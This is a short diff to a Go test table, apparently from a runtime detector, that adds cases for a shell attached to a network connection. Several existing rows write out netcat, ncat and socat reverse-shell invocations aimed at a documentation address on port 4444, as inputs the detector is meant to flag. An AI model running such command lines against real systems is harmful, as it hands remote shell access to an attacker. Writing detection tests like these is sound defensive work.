@@ -159,6 +159,8 @@ var defaultCases = []struct {
 	{"", one(execs(pidTool+child, image{comm: "sh"}))},
 	{"Standard stream redirected to a network connection", then(connects(pidTool, "198.51.100.7:4444"), dups(pidTool, 0))},
 	{"", then(connects(pidTool, "198.51.100.7:4444"), dups(pidTool, 9))},
+	{"Shell on a network connection", then(connects(pidTool+child, "198.51.100.7:4444"), dups(pidTool+child, 0), execs(pidTool+child, image{comm: "sh", args: []string{"-i"}}))},
+	{"", then(connects(pidTool+child, "198.51.100.7:4444"), dups(pidTool+child, 0), execs(pidTool+child, image{comm: "cat"}))},
 	{"Netcat runs a program on a connection", one(execs(pidTool+child, image{comm: "nc", args: []string{"-e", "/bin/sh", "198.51.100.7", "4444"}}))},
 	{"Netcat runs a program on a connection", one(execs(pidTool+child, image{comm: "ncat", args: []string{"--exec", "/bin/sh", "-l"}}))},
 	{"Netcat runs a program on a connection", one(execs(pidTool+child, image{comm: "socat", args: []string{"TCP:198.51.100.7:1", "EXEC:sh"}}))},
